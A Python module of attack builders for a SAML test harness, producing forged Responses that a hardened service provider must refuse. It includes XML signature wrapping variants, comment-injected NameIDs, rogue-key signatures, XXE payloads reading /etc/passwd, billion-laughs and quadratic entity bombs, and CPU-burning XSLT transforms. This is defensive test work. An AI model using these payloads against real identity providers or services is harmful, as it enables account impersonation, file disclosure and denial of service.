"""Attack builders: Responses a hardened SP must refuse. Each returns the bytes of a complete
samlp:Response (post it with `post_form`) and says what it tries and against which mistake.
Keyword arguments not named here go to `response_tree` (destination, audience, ...)."""

from __future__ import annotations

import base64
import datetime as dt
from copy import deepcopy
from typing import Any

import lxml.etree as etree

from .idp import IdPCore
from .xmltools import (
    NS,
    KeyPair,
    find,
    instant,
    new_id,
    parse,
    qname,
    serialize,
    sign_enveloped,
    sub,
    utcnow,
)

XSW_VARIANTS = ("evil_first", "evil_last", "extensions", "advice", "object", "response_wrapped")

IDENTITY_XSLT = (
    '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
    '<xsl:template match="@*|node()"><xsl:copy><xsl:apply-templates select="@*|node()"/>'
    "</xsl:copy></xsl:template></xsl:stylesheet>"
)


def _loop_xslt(nested_loops: int) -> str:
    """A stylesheet that visits every node of the input nested_loops times over (N**k steps for
    N nodes) and outputs nothing: CPU only, no memory growth."""
    body = "<xsl:value-of select=\"substring('', 1, 0)\"/>"
    for _ in range(nested_loops):
        body = f'<xsl:for-each select="$n">{body}</xsl:for-each>'
    return (
        '<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
        '<xsl:template match="/"><xsl:variable name="n" select="//node()|//@*"/>'
        f"{body}</xsl:template></xsl:stylesheet>"
    )


def _plain(kwargs: dict[str, Any], attack: str) -> None:
    if kwargs.get("encrypt_to_cert") is not None:
        raise ValueError(f"{attack} works on a plaintext assertion; encrypt_to_cert is not taken")


def _split_with_comment(element: etree._Element, at: int) -> None:
    """'admin@example.com.evil.test' -> 'admin@example.com<!---->.evil.test'."""
    text = element.text or ""
    element.text = text[:at]
    comment = etree.Comment("")
    comment.tail = text[at:]
    element.insert(0, comment)


def _with_doctype(xml: bytes, doctype: str) -> bytes:
    declaration, _, rest = xml.partition(b"?>")
    return declaration + b"?>\n" + doctype.encode() + b"\n" + rest.lstrip()


class AttackBuilders(IdPCore):
    _rogue: KeyPair | None = None

    # signatures -----------------------------------------------------------------------------

    def unsigned(self, **kwargs: Any) -> bytes:
        """No signature at all, on neither the Response nor the assertion. An SP must refuse it
        whatever its settings (python3-saml 1.16 refuses a Response without any signature even
        when neither wantAssertionsSigned nor wantMessagesSigned is set)."""
        return serialize(
            self.response_tree(**{**kwargs, "sign_assertion": False, "sign_response": False})
        )

    @property
    def rogue_key(self) -> KeyPair:
        """A key/cert this IdP never published (made once per IdP)."""
        if self._rogue is None:
            self._rogue = KeyPair.generate("Rogue IdP")
        return self._rogue

    def signed_by_other_key(self, **kwargs: Any) -> bytes:
        """Correctly signed, by a key not in the IdP's metadata, whose certificate rides along in
        ds:KeyInfo: catches an SP that trusts the embedded certificate instead of its own copy."""
        return serialize(self.response_tree(**{**kwargs, "key": self.rogue_key}))

    def tampered_after_signing(
        self,
        *,
        name_id: str = "user@example.com",
        tampered_name_id: str | None = "admin@example.com",
        attribute: str | None = None,
        tampered_values: list[str] | None = None,
        **kwargs: Any,
    ) -> bytes:
        """Signed for `name_id`, then the NameID is changed to `tampered_name_id` (None: left
        alone) and, with `attribute`, that attribute's values replaced by `tampered_values`. The
        signature is intact in form but its digest no longer matches."""
        _plain(kwargs, "tampered_after_signing")
        response = self.response_tree(name_id=name_id, **kwargs)
        assertion = find(response, "saml:Assertion")
        if tampered_name_id is not None:
            find(assertion, "saml:Subject/saml:NameID").text = tampered_name_id
        if attribute is not None:
            node = find(assertion, f"saml:AttributeStatement/saml:Attribute[@Name='{attribute}']")
            for value in list(node):
                node.remove(value)
            for value in tampered_values or []:
                sub(node, "saml:AttributeValue", value, xsi_type="xs:string")
        return serialize(response)

    def signature_wrapping(
        self,
        variant: str = "evil_first",
        *,
        name_id: str = "attacker@example.com",
        evil_name_id: str = "admin@example.com",
        evil_attributes: dict[str, list[str]] | None = None,
        **kwargs: Any,
    ) -> bytes:
        """XML signature wrapping (XSW): the IdP's genuine signature over the attacker's own
        assertion (`name_id`) stays valid, while an unsigned evil assertion (`evil_name_id`,
        its attributes replaced by `evil_attributes` when given, a fresh ID) sits where a
        careless SP reads the identity from. Variants:

        - evil_first: evil assertion inserted before the signed one (Response > evil, signed).
        - evil_last: evil assertion appended after the signed one.
        - extensions: signed assertion moved into samlp:Extensions, evil one in its place.
        - advice: evil assertion in the signed one's place, holding the signed one in
          saml:Advice (schema-valid: Advice may carry assertions).
        - object: evil assertion in the signed one's place carrying a copy of the original
          ds:Signature whose ds:Object wraps the intact signed assertion (XSW7/8 family): the
          nested signature verifies, the copy under /Response/Assertion does not.
        - response_wrapped: the Response alone is signed (sign_assertion off); an evil
          Response (fresh ID, evil assertion) becomes the root and the genuine signed Response
          is moved into its samlp:Extensions.

        In every variant exactly one signature verifies with the IdP's cert, and it covers the
        attacker's own assertion (or Response), never the evil one."""
        if variant not in XSW_VARIANTS:
            raise ValueError(f"variant must be one of {XSW_VARIANTS}")
        _plain(kwargs, "signature_wrapping")
        by_response = variant == "response_wrapped"
        kwargs.update(sign_assertion=not by_response, sign_response=by_response)
        response = self.response_tree(name_id=name_id, **kwargs)
        signed = find(response, "saml:Assertion")

        evil = deepcopy(signed)
        if not by_response:
            evil.remove(find(evil, "ds:Signature"))
        evil.set("ID", new_id())
        find(evil, "saml:Subject/saml:NameID").text = evil_name_id
        if evil_attributes is not None:
            for statement in evil.findall(qname("saml:AttributeStatement")):
                evil.remove(statement)
            statement = sub(evil, "saml:AttributeStatement")
            for name, values in evil_attributes.items():
                attribute = sub(statement, "saml:Attribute", Name=name)
                for value in values:
                    sub(attribute, "saml:AttributeValue", value, xsi_type="xs:string")

        if variant == "evil_first":
            signed.addprevious(evil)
        elif variant == "evil_last":
            signed.addnext(evil)
        elif variant == "extensions":
            signed.addprevious(evil)
            extensions = sub(None, "samlp:Extensions")
            find(response, "samlp:Status").addprevious(extensions)
            extensions.append(signed)
        elif variant == "advice":
            signed.addprevious(evil)
            advice = sub(None, "saml:Advice")
            find(evil, "saml:Conditions").addnext(advice)
            advice.append(signed)
        elif variant == "object":
            copy = deepcopy(find(signed, "ds:Signature"))
            find(evil, "saml:Issuer").addnext(copy)
            signed.addprevious(evil)
            sub(copy, "ds:Object").append(signed)
        else:  # response_wrapped
            genuine = response
            response = deepcopy(genuine)
            response.remove(find(response, "ds:Signature"))
            response.set("ID", new_id())
            response.replace(find(response, "saml:Assertion"), evil)
            extensions = sub(None, "samlp:Extensions")
            find(response, "samlp:Status").addprevious(extensions)
            extensions.append(genuine)
        return serialize(response)

    def comment_injected_name_id(
        self, *, victim: str = "admin@example.com", suffix: str = ".evil.test", **kwargs: Any
    ) -> bytes:
        """Duo Labs 2018 (CVE-2017-11427 and kin): the IdP signs NameID `victim + suffix`
        (an identity the attacker may register, 'admin@example.com.evil.test'); a comment is
        then put in it: 'admin@example.com<!---->.evil.test'. Exclusive c14n drops comments, so
        the signature still verifies; an SP reading only the first text node (lxml's `.text`
        on a tree parsed with comments kept) sees 'admin@example.com'. Correct readings are the
        whole text ('admin@example.com.evil.test') or a refusal."""
        _plain(kwargs, "comment_injected_name_id")
        response = self.response_tree(**{**kwargs, "name_id": victim + suffix})
        _split_with_comment(find(response, "saml:Assertion/saml:Subject/saml:NameID"), len(victim))
        return serialize(response)

    def comment_injected_attribute(
        self,
        name: str = "groups",
        *,
        victim: str = "admins",
        suffix: str = "-readonly",
        **kwargs: Any,
    ) -> bytes:
        """The same trick on an attribute value: signed 'admins-readonly', sent as
        'admins<!---->-readonly' (added as the first value of attribute `name`)."""
        _plain(kwargs, "comment_injected_attribute")
        attributes = dict(kwargs.pop("attributes", None) or {})
        attributes[name] = [victim + suffix, *attributes.get(name, [])]
        response = self.response_tree(attributes=attributes, **kwargs)
        path = f"saml:Assertion/saml:AttributeStatement/saml:Attribute[@Name='{name}']"
        _split_with_comment(find(response, path + "/saml:AttributeValue[1]"), len(victim))
        return serialize(response)

    # parser attacks -------------------------------------------------------------------------

    def with_xxe(
        self, *, system_id: str = "file:///etc/passwd", kind: str = "general", **kwargs: Any
    ) -> bytes:
        """A DOCTYPE with an external entity (XXE). kind 'general': `<!ENTITY xxe SYSTEM
        system_id>` referenced as the NameID (the file would become the user's identity);
        'parameter': a parameter entity expanded inside the DTD (out-of-band fetch);
        'external_dtd': `<!DOCTYPE ... SYSTEM system_id>`. Point `system_id` at a file holding
        a canary to prove it is never read. The signature is computed before the DOCTYPE goes
        in; the SP must refuse at parse time, whatever the signature."""
        _plain(kwargs, "with_xxe")
        marker = "XXE" + new_id()
        xml = self.response(**{**kwargs, "name_id": marker})
        if kind == "general":
            doctype = f'<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "{system_id}">]>'
            xml = xml.replace(marker.encode(), b"&xxe;")
        elif kind == "parameter":
            doctype = f'<!DOCTYPE samlp:Response [<!ENTITY % ext SYSTEM "{system_id}"> %ext;]>'
        elif kind == "external_dtd":
            doctype = f'<!DOCTYPE samlp:Response SYSTEM "{system_id}">'
        else:
            raise ValueError("kind must be general, parameter or external_dtd")
        return _with_doctype(xml, doctype)

    def with_entity_expansion(self, *, depth: int = 10, width: int = 10, **kwargs: Any) -> bytes:
        """Billion laughs: internal entities nested `depth` deep, each `width` references to the
        one below, the top one as the NameID: 3 * width**depth characters once expanded (30 GB
        with the defaults) from a document of a few KB."""
        _plain(kwargs, "with_entity_expansion")
        marker = "LOL" + new_id()
        xml = self.response(**{**kwargs, "name_id": marker})
        entities = ['<!ENTITY lol0 "lol">']
        for level in range(1, depth + 1):
            entities.append(f'<!ENTITY lol{level} "{f"&lol{level - 1};" * width}">')
        doctype = "<!DOCTYPE samlp:Response [" + "".join(entities) + "]>"
        return _with_doctype(xml.replace(marker.encode(), f"&lol{depth};".encode()), doctype)

    def with_quadratic_blowup(
        self, *, entity_size: int = 100_000, references: int = 10_000, **kwargs: Any
    ) -> bytes:
        """One large entity referenced many times (no nesting, which some billion-laughs guards
        look for): entity_size * references characters once expanded (1 GB by default)."""
        _plain(kwargs, "with_quadratic_blowup")
        marker = "QB" + new_id()
        xml = self.response(**{**kwargs, "name_id": marker})
        doctype = f'<!DOCTYPE samlp:Response [<!ENTITY a "{"a" * entity_size}">]>'
        return _with_doctype(xml.replace(marker.encode(), b"&a;" * references), doctype)

    def with_xslt_transform(self, *, nested_loops: int = 0, **kwargs: Any) -> bytes:
        """An assertion whose signature Reference carries an XSLT transform (enveloped, then
        XSLT) instead of exclusive c14n.

        nested_loops=0: an identity stylesheet, and the signature is genuinely valid: an SP
        that lets xmlsec run any transform accepts it (and thereby runs attacker XSLT on every
        login). nested_loops=k: after signing, the stylesheet is swapped for one that walks
        every node k times over and outputs nothing (about 100**k steps for a default
        response: k=4 takes about a second here, k=5 minutes). The digest then fails, but only
        after the XSLT ran: the CPU is burnt before any check. The SP must refuse on sight of
        the transform."""
        _plain(kwargs, "with_xslt_transform")
        signature_algorithm = kwargs.pop("signature_algorithm", "rsa-sha256")
        digest_algorithm = kwargs.pop("digest_algorithm", "sha256")
        key = kwargs.pop("key", None)
        response = self.response_tree(**{**kwargs, "sign_assertion": False})
        assertion = find(response, "saml:Assertion")
        signature = sign_enveloped(
            assertion,
            key or self.signing_key,
            signature_algorithm=signature_algorithm,
            digest_algorithm=digest_algorithm,
            xslt=etree.fromstring(IDENTITY_XSLT),
        )
        if nested_loops:
            transform = signature.xpath(
                "ds:SignedInfo/ds:Reference/ds:Transforms/ds:Transform[xsl:stylesheet]",
                namespaces=NS,
            )[0]
            transform.replace(transform[0], etree.fromstring(_loop_xslt(nested_loops)))
        return serialize(response)

    def oversized(self, n_bytes: int, **kwargs: Any) -> bytes:
        """A validly signed Response of at least `n_bytes` of XML: an attribute 'padding' holds
        one value of n_bytes characters. The POST body (base64) is about 4/3 of that."""
        attributes = list((kwargs.pop("attributes", None) or {}).items())
        attributes.append(("padding", ["A" * n_bytes]))
        return self.response(attributes=attributes, **kwargs)

    # envelope -------------------------------------------------------------------------------

    def rewrapped(
        self,
        response_xml: bytes,
        *,
        response_id: str | None = None,
        in_response_to: Any = ...,
        destination: Any = ...,
        now: dt.datetime | None = None,
    ) -> bytes:
        """The same (signed) assertion in a fresh, unsigned envelope: a new Response ID and
        IssueInstant, and InResponseTo/Destination replaced when given (None removes them;
        left out: kept). Any Response-level signature is dropped. For replay tests (same
        assertion ID, new Response ID) and for an SP that trusts the unsigned
        Response@InResponseTo rather than the signed SubjectConfirmationData's."""
        response = parse(response_xml)
        for signature in response.findall(qname("ds:Signature")):
            response.remove(signature)
        response.set("ID", response_id or new_id())
        response.set("IssueInstant", instant(now or utcnow()))
        for name, value in (("InResponseTo", in_response_to), ("Destination", destination)):
            if value is None:
                response.attrib.pop(name, None)
            elif value is not ...:
                response.set(name, value)
        return serialize(response)


# garbage ------------------------------------------------------------------------------------


def not_base64() -> str:
    """A SAMLResponse value that is not base64 even to a lenient decoder (python3-saml's
    base64.b64decode drops non-alphabet characters and then fails on the padding)."""
    return "this is not base64!"


def base64_not_xml() -> str:
    """Valid base64 of bytes that are not XML."""
    return base64.b64encode(b"\x89PNG\r\n\x1a\n definitely not XML").decode()


def truncated(xml: bytes, keep: float = 0.5) -> bytes:
    """The first `keep` fraction of a document: not well-formed."""
    return xml[: max(1, int(len(xml) * keep))]
